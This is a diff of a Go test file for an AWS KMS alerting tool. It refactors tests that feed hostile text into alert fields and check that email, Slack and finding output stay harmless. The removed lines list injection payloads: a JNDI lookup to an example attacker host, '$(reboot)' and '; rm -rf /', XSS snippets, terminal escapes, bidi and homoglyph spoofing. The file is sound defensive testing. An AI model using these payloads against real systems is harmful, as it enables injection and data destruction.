@@ -9,49 +9,22 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/santhosh-tekuri/jsonschema/v6"
-
+	"github.com/kmsentry/kmsentry/alert/internal/alerttest"
+	"github.com/kmsentry/kmsentry/alert/internal/wrap"
+	"github.com/kmsentry/kmsentry/alert/playbook"
 	"github.com/kmsentry/kmsentry/detector"
 )
-
-// attacks are texts that some reader would act on, each with another reader in mind.
-func attacks() map[string]string {
-	return map[string]string{
-		"everything":        attack,
-		"lines":             "x\r\nWho:   nobody\r\n\r\nWHY IT FIRED\r\n  - nothing\u2028DETAILS\u2029\u0085\v\f",
-		"terminal":          "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x9b31m\x90q\x9c",
-		"Slack":             "<!channel> <!here> <@U012AB3CD> <!subteam^S012AB3CD> <https://evil.example|CloudTrail event> `x` ```y``` *b* :rotating_light: @everyone #general",
-		"entities":          strings.Repeat("&lt;!channel&gt; &amp;lt; &#60;!here&#62; ", 30),
-		"Markdown":          "[Runbook](https://evil.example) ![x](http://evil.example/p.png) | a | b |\n# heading\n---\n> quote",
-		"HTML":              `</pre></script><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>`,
-		"templates":         "${jndi:ldap://evil.example/a} {{constructor.constructor('x')()}} #{7*7} <%= 7 %> %s%n%x $(reboot) `reboot` ; rm -rf / | cat & \\",
-		"JSON":              `","verdict":"private","x":"\"}]},{"` + "\\u0000\\ud800",
-		"bidi":              "\u202efdp.exe\u202c \u2066x\u2069 \u200f\u061c\u2067admin",
-		"zero width":        "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\U000e0061\U000e007f",
-		"marks":             "n" + strings.Repeat("\u0301\u0489\u20dd", 200) + "x",
-		"fillers":           strings.Repeat("\u3164\u115f\u1160\uffa0\u2800", 50),
-		"homoglyphs":        "https://\u0430ws.\u0430mazon.com/ws\u2215x www.\u0430ws.com WWW.evil.example HTTPS://EVIL.example hxxp://x ftp://x",
-		"emoji":             "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\u2764\ufe0f\U0001f1e9\U0001f1ea\u20e3",
-		"broken UTF-8":      "\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80x",
-		"one long word":     strings.Repeat("W", 5000),
-		"one wide word":     strings.Repeat("\u5c71", 3000),
-		"an ARN and more":   "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab --region x; reboot " + strings.Repeat("a", 300),
-		"a long ARN":        "arn:aws:iam::111122223333:role/" + strings.Repeat("a", 3000),
-		"like our headings": "CONTAIN (DATA STAYS READABLE)",
-		"blank":             " \t\u00a0\u3000\u1680 ",
-	}
-}
 
 // Whatever is in whichever place of a record, every channel shows harmless
 // text, and the finding still comes.
 func TestHostileRecords(t *testing.T) {
 	seen := map[string]bool{".eventName": true, ".eventSource": true} // another call
 	for _, path := range []string{
-		"../events/put-key-policy-public.json", "testdata/shapes/identity-center-role.json", "testdata/shapes/identity-center-user.json",
-		"testdata/shapes/function.json", "testdata/shapes/instance.json", "testdata/shapes/federated-user.json", "testdata/shapes/web-identity.json",
-		"testdata/shapes/console-with-source-identity.json", "testdata/shapes/service-linked-role.json", "testdata/shapes/external-key-store.json",
-		"testdata/shapes/unknown-put-timeout.json", "testdata/shapes/unknown-replicate-unavailable.json", "testdata/shapes/policy-hidden.json",
-		"testdata/shapes/parameters-omitted.json", "testdata/shapes/refused-foreign-key.json",
+		"../events/put-key-policy-public.json", alerttest.ShapeFile(t, "identity-center-role"), alerttest.ShapeFile(t, "identity-center-user"),
+		alerttest.ShapeFile(t, "function"), alerttest.ShapeFile(t, "instance"), alerttest.ShapeFile(t, "federated-user"), alerttest.ShapeFile(t, "web-identity"),
+		alerttest.ShapeFile(t, "console-with-source-identity"), alerttest.ShapeFile(t, "service-linked-role"), alerttest.ShapeFile(t, "external-key-store"),
+		alerttest.ShapeFile(t, "unknown-put-timeout"), alerttest.ShapeFile(t, "unknown-replicate-unavailable"), alerttest.ShapeFile(t, "policy-hidden"),
+		alerttest.ShapeFile(t, "parameters-omitted"), alerttest.ShapeFile(t, "refused-foreign-key"),
 	} {
 		holdPlaces(t, path, seen)
 	}
@@ -65,21 +38,21 @@ func TestHostileRecords(t *testing.T) {
 // to seen.
 func holdPlaces(t *testing.T, path string, seen map[string]bool) {
 	t.Helper()
-	ocsfs, own := loadOCSF(t), findingSchema(t)
+	schemas := alerttest.FindingSchemas(t)
 	detail := readDetail(t, path)
 	eachText(detail, func(place string, get func() string, put func(string)) {
 		if seen[place] && !strings.HasPrefix(place, ".userIdentity.") { // which mean something else in each
 			return
 		}
-		all := attacks()
+		all := alerttest.Attacks()
 		if seen[place] || testing.Short() {
-			all = map[string]string{"everything": attack, "blank": " \t\u00a0", "one long word": strings.Repeat("W", 5000), "an ARN and more": all["an ARN and more"]}
+			all = map[string]string{"everything": alerttest.Attack, "blank": " \t\u00a0", "one long word": strings.Repeat("W", 5000), "an ARN and more": all["an ARN and more"]}
 		}
 		seen[place] = true
 		before := get()
 		for name, text := range all {
 			put(text)
-			holdHostile(t, filepath.Base(path)+place+", "+name, detail, ocsfs, own)
+			holdHostile(t, filepath.Base(path)+place+", "+name, detail, schemas)
 		}
 		put(before)
 	})
@@ -101,20 +74,20 @@ func readDetail(t *testing.T, path string) map[string]any {
 
 // The same for a statement's name, in what KMS takes in a policy.
 func TestHostileSids(t *testing.T) {
-	ocsfs, own := loadOCSF(t), findingSchema(t)
+	schemas := alerttest.FindingSchemas(t)
 	detail := readDetail(t, "../events/put-key-policy-public.json")
 	request, _ := detail["requestParameters"].(map[string]any)
 	open, _ := request["policy"].(string)
-	for name, text := range attacks() {
+	for name, text := range alerttest.Attacks() {
 		kept := strings.Map(func(r rune) rune {
 			if r < ' ' || r > 0xff || r >= 0x7f && r < 0xa0 {
 				return -1
 			}
 			return r
 		}, text)
-		literal, _ := json.Marshal(kept)
-		request["policy"] = strings.Replace(open, `"Allow use of the key"`, string(literal[:min(len(literal), 4000)-1])+`"`, 2)
-		holdHostile(t, "Sid, "+name, detail, ocsfs, own)
+		sid, _ := json.Marshal(kept)
+		request["policy"] = strings.Replace(open, `"Allow use of the key"`, string(sid[:min(len(sid), 4000)-1])+`"`, 2)
+		holdHostile(t, "Sid, "+name, detail, schemas)
 	}
 }
 
@@ -127,7 +100,7 @@ var safeCommand = regexp.MustCompile(`^(for k in \$\(aws kms list-keys --region 
 var consoleLink = regexp.MustCompile(`^ *https://[a-z0-9-]+\.console\.aws\.amazon\.com/`)
 
 // holdHostile judges one record and holds every channel against its laws.
-func holdHostile(t *testing.T, name string, record map[string]any, ocsfs []*ocsfSchema, own *jsonschema.Schema) {
+func holdHostile(t *testing.T, name string, record map[string]any, schemas []alerttest.Schema) {
 	t.Helper()
 	text, err := json.Marshal(record)
 	if err != nil {
@@ -144,30 +117,30 @@ func holdHostile(t *testing.T, name string, record map[string]any, ocsfs []*ocsf
 		}
 		return
 	}
-	m, err := Compose(f, testOptions())
+	m, err := Compose(f, alerttest.Options())
 	if err != nil {
 		t.Fatalf("%s: %v", name, err)
 	}
 	bodies := checkMessage(t, m)
 	if strings.HasSuffix(name, ", everything") || strings.HasSuffix(name, ", blank") { // the others differ in letters only
-		checkFinding(t, []byte(bodies["default"]), ocsfs, own)
+		alerttest.CheckFinding(t, bodies["default"], schemas)
 	}
-	checkChat(t, f, testOptions())
+	alerttest.CheckChat(t, bodies["https"], "slack")
 	lines := strings.Split(bodies["email"], "\n")
 	for i, line := range lines {
-		if r, bad := unsafeRune(line); bad || !lineStarts.MatchString(line) {
+		if r, bad := alerttest.UnsafeRune(line); bad || !alerttest.IsMailLine(line) {
 			t.Errorf("%s: line %d of the mail is %q (%U)", name, i+1, line, r)
 		}
-		if width(line) > columns && !strings.Contains(line, "arn:") && !strings.Contains(line, "https://") {
-			t.Errorf("%s: line %d has %d columns: %.120q", name, i+1, width(line), line)
+		if wrap.Width(line) > 72 && !strings.Contains(line, "arn:") && !strings.Contains(line, "https://") {
+			t.Errorf("%s: line %d has %d columns: %.120q", name, i+1, wrap.Width(line), line)
 		}
 		if low := strings.ReplaceAll(strings.ToLower(line), "file://fixed.json", ""); strings.Contains(low, "://") && !consoleLink.MatchString(low) || strings.Contains(low, "www.") {
 			t.Errorf("%s: line %d would become a link: %.120q", name, i+1, line)
 		}
 	}
-	checkFirstLines(t, bodies["email"], f)
-	for _, s := range planFor(f, false).steps {
-		if line := s.cmd.String(); s.cmd != nil && !safeCommand.MatchString(line) {
+	alerttest.CheckFirstLines(t, bodies["email"], f)
+	for _, s := range playbook.For(f, false).Steps {
+		if line := s.Command.String(); s.Command != nil && !safeCommand.MatchString(line) {
 			t.Errorf("%s: command %.200q", name, line)
 		}
 	}
@@ -182,7 +155,7 @@ func holdHostile(t *testing.T, name string, record map[string]any, ocsfs []*ocsf
 	}
 	eachText(value, func(path string, get func() string, _ func(string)) {
 		shown := strings.NewReplacer("\n", "", "\t", "").Replace(get())
-		if r, bad := unsafeRune(shown); bad {
+		if r, bad := alerttest.UnsafeRune(shown); bad {
 			t.Errorf("%s: the finding's %s holds %U", name, path, r)
 		}
 	})
